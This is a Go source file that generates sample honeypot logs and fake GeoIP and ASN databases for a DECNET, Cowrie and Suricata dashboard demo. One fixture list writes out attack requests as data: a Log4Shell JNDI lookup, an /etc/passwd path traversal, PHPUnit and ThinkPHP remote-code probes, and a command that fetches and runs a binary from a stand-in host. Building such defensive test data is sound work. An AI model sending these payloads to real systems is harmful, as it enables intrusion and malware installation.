// Package sample has what the demo, the proof of the dashboards and their
// pictures are filled with: a recorded log of DECNET, and beside it sessions
// that Cowrie and Suricata recorded, spread over the same days and over
// addresses of their own, so that every panel has something to show.
package sample

import (
	"bufio"
	"bytes"
	"cmp"
	"encoding/json"
	"fmt"
	"hash/fnv"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"time"

	"github.com/maxmind/mmdbwriter"
	"github.com/maxmind/mmdbwriter/mmdbtype"

	"dossier/plugin/chunk/chunktest"
)

// Begin and End are the time that the sample is about.
var (
	Begin = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	End   = time.Date(2026, 1, 8, 0, 0, 0, 0, time.UTC)
)

// Data returns the path of a file under testbed/data.
func Data(parts ...string) string {
	_, file, _, _ := runtime.Caller(0)
	return filepath.Join(append([]string{filepath.Dir(file), "..", "data"}, parts...)...)
}

// chunkLines is about what fits a chunk of 2 MB.
const chunkLines = 5000

// Chunks returns the files' lines in chunks as Fluent Bit delivers them, and how
// many lines there are. The records' time is after every line's own, so each
// call returns the same bytes.
func Chunks(files ...string) (chunks [][]byte, n int, err error) {
	for _, file := range files {
		lines, err := Lines(file)
		if err != nil {
			return nil, 0, err
		}
		n += len(lines)
		for part := range slices.Chunk(lines, chunkLines) {
			chunks = append(chunks, chunktest.Lines(End, "log", part...))
		}
	}
	return chunks, n, nil
}

// Files are those of the sample.
func Files() []string { return []string{Data("decnet", "raw_20k.log"), Data("demo", "more.log")} }

// maxLine is longer than any line of the samples, in bytes.
const maxLine = 4 << 20

// Lines returns the lines of a file.
func Lines(file string) ([]string, error) {
	f, err := os.Open(file)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var lines []string
	s := bufio.NewScanner(f)
	s.Buffer(nil, maxLine)
	for s.Scan() {
		lines = append(lines, s.Text())
	}
	return lines, s.Err()
}

// More makes more.log of what Cowrie and Suricata recorded.
func More() ([]byte, error) {
	var out []string
	sessions, err := Lines(Data("cowrie", "cowrie.json"))
	if err != nil {
		return nil, err
	}
	// Each session comes at an hour of its own, from one of few addresses:
	// those that come back have hours after hours.
	at := map[string]time.Duration{}
	for _, l := range sessions {
		var r struct {
			Session string    `json:"session"`
			Time    time.Time `json:"timestamp"`
			Source  string    `json:"src_ip"`
		}
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			return nil, err
		}
		if _, ok := at[r.Session]; !ok {
			h := hash(r.Session)
			begin := Begin.Add(time.Duration(h%150)*time.Hour + time.Duration(h%3000)*time.Second)
			at[r.Session] = begin.Sub(r.Time)
		}
		l = strings.ReplaceAll(l, `"`+r.Source+`"`, `"`+visitors[hash(r.Source)%len(visitors)]+`"`)
		l = strings.ReplaceAll(l, r.Source+":", visitors[hash(r.Source)%len(visitors)]+":")
		l = strings.NewReplacer("http://127.0.0.1:18080/", "http://198.51.100.7/", "http://127.0.0.1:1/", "http://198.51.100.9/", "ftp://anonymous:a@127.0.0.1/", "ftp://198.51.100.8/").Replace(l)
		out = append(out, retime(l, at[r.Session]))
	}
	flows, err := Lines(Data("suricata", "eve.json"))
	if err != nil {
		return nil, err
	}
	for _, l := range flows {
		// A decoy at 10.99.0.2; by the hour, for the whole took a minute.
		var r struct {
			Time string `json:"timestamp"`
			Flow uint64 `json:"flow_id"`
		}
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			return nil, err
		}
		began, err := time.Parse("2006-01-02T15:04:05.000000-0700", r.Time)
		if err != nil {
			return nil, err
		}
		begin := Begin.Add(time.Duration(r.Flow%120)*time.Hour + 12*time.Hour)
		l = strings.NewReplacer(`"10.99.0.1"`, `"45.140.125.201"`, `"10.99.0.3"`, `"193.32.126.44"`).Replace(l)
		out = append(out, retime(l, begin.Sub(began.Truncate(time.Minute))))
	}
	// A scanner that is known, a client of ours that touches a decoy, and who
	// comes back every twenty minutes.
	for i := range 40 {
		out = append(out, request(Begin.Add(time.Duration(i)*3*time.Hour), "decky-03", "71.6.135.131", "GET", "/robots.txt", "Mozilla/5.0 (compatible)"))
	}
	for i := range 6 {
		out = append(out, request(Begin.Add(50*time.Hour+time.Duration(i)*7*time.Minute), fmt.Sprintf("decky-%02d", 1+i%3), "10.20.30.40", "GET", "/", "curl/8.5.0"))
	}
	for i := range 72 {
		out = append(out, request(Begin.Add(100*time.Hour+time.Duration(i)*20*time.Minute), "decky-07", "45.140.125.203", "GET", "/update", "Go-http-client/1.1"))
	}
	for i, c := range [][2]string{
		{"GET", "/?x=${jndi:ldap://198.51.100.9/a}"},
		{"GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"},
		{"POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
		{"GET", "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id"},
		{"GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/arm7;sh+arm7"},
	} {
		for n, from := range []string{"45.140.125.204", "193.32.126.45", "89.194.142.118"}[:1+i%3] {
			out = append(out, request(Begin.Add(time.Duration(60+10*i+n)*time.Hour), fmt.Sprintf("decky-%02d", 3+i), from, c[0], c[1], "Mozilla/5.0 zgrab/0.x"))
		}
	}
	return []byte(strings.Join(out, "\n") + "\n"), nil
}

// Visitor is an attacker of the sample of whom there is something in every list.
const Visitor = "45.140.125.201"

// visitors are the addresses that Cowrie's clients get: with the recorded log's
// they are of networks of which the databases know a country.
var visitors = []string{Visitor, "193.32.126.44", "103.25.133.99", "141.148.40.220", "185.79.110.247"}

func hash(s string) int {
	h := fnv.New32a()
	h.Write([]byte(s))
	return int(h.Sum32() >> 1)
}

// request is a line as DECNET writes it.
func request(at time.Time, decky, from, method, path, agent string) string {
	headers, _ := json.Marshal(map[string]string{"User-Agent": agent, "Host": "10.0.0.16"}) // texts only
	quote := strings.NewReplacer(`\`, `\\`, `"`, `\"`, `]`, `\]`)
	return fmt.Sprintf(`<134>1 %s %s http - request [relay@55555 method="%s" path="%s" remote_addr="%s" headers="%s" body=""]`,
		at.UTC().Format("2006-01-02T15:04:05.000000-07:00"), decky, method, quote.Replace(path), from, quote.Replace(string(headers)))
}

var stamp = regexp.MustCompile(`"(timestamp|start|end)":"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d+)(Z|[+-]\d{4})"`)

// retime moves the times in a line.
func retime(l string, by time.Duration) string {
	return stamp.ReplaceAllStringFunc(l, func(s string) string {
		m := stamp.FindStringSubmatch(s)
		t, err := time.Parse("2006-01-02T15:04:05.999999999", m[2])
		if err != nil {
			return s
		}
		return fmt.Sprintf(`"%s":"%s%s"`, m[1], t.Add(by).Format("2006-01-02T15:04:05.000000"), m[3])
	})
}

// places are what the databases say: made up, but for where the countries are.
var places = []struct {
	code      string
	lat, long float64
	as        uint32
	name      string
}{
	{"DE", 51.2, 10.4, 64496, "Example Hosting GmbH"},
	{"NL", 52.2, 5.3, 64497, "Example Cloud BV"},
	{"US", 39.8, -98.6, 64498, "Example Cable Inc"},
	{"BR", -10.8, -53.1, 64499, "Example Telecom SA"},
	{"IN", 22.9, 79.6, 64500, "Example Broadband Ltd"},
	{"VN", 16.6, 106.3, 64501, "Example Post and Telecom"},
	{"CN", 36.6, 103.8, 64502, "Example Backbone"},
	{"RU", 61.9, 96.7, 64503, "Example Datacenter LLC"},
	{"GB", 54.1, -2.9, 64504, "Example VPS Ltd"},
	{"FR", 46.6, 2.5, 64505, "Example Serveurs SAS"},
	{"KR", 36.4, 127.8, 64506, "Example Mobile"},
	{"ZA", -29.0, 25.1, 64507, "Example Fibre"},
}

// Databases writes a database of places and one of autonomous systems into dir,
// and returns the options that name them. Each /16 is somewhere.
func Databases(dir string) (map[string]string, error) {
	city, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Sample-City", RecordSize: 24, BuildEpoch: Begin.Unix()})
	if err != nil {
		return nil, err
	}
	system, err := mmdbwriter.New(mmdbwriter.Options{DatabaseType: "Sample-ASN", RecordSize: 24, BuildEpoch: Begin.Unix()})
	if err != nil {
		return nil, err
	}
	seen := map[[2]byte]bool{}
	for _, file := range Files() {
		text, err := os.ReadFile(file)
		if err != nil {
			return nil, err
		}
		for _, m := range address.FindAll(text, -1) {
			ip := net.ParseIP(string(m)).To4()
			if ip == nil || ip.IsPrivate() || !ip.IsGlobalUnicast() || seen[[2]byte{ip[0], ip[1]}] {
				continue
			}
			seen[[2]byte{ip[0], ip[1]}] = true
		}
	}
	networks := make([][2]byte, 0, len(seen))
	for n := range seen {
		networks = append(networks, n)
	}
	slices.SortFunc(networks, func(a, b [2]byte) int { return bytes.Compare(a[:], b[:]) })
	for _, n := range networks {
		p := places[hash(fmt.Sprint(n[0]))%len(places)]
		network := &net.IPNet{IP: net.IPv4(n[0], n[1], 0, 0).To4(), Mask: net.CIDRMask(16, 32)}
		err := cmp.Or(
			city.Insert(network, mmdbtype.Map{
				"country":  mmdbtype.Map{"iso_code": mmdbtype.String(p.code)},
				"location": mmdbtype.Map{"latitude": mmdbtype.Float64(p.lat), "longitude": mmdbtype.Float64(p.long)},
			}),
			system.Insert(network, mmdbtype.Map{"autonomous_system_number": mmdbtype.Uint32(p.as), "autonomous_system_organization": mmdbtype.String(p.name)}))
		if err != nil && !strings.Contains(err.Error(), "reserved network") {
			return nil, err
		}
	}
	options := map[string]string{}
	for name, tree := range map[string]*mmdbwriter.Tree{"geoip_db": city, "asn_db": system} {
		options[name] = filepath.Join(dir, name+".mmdb")
		var b bytes.Buffer
		if _, err := tree.WriteTo(&b); err != nil {
			return nil, err
		}
		if err := os.WriteFile(options[name], b.Bytes(), 0o644); err != nil {
			return nil, err
		}
	}
	return options, nil
}

var address = regexp.MustCompile(`\b\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}\b`)
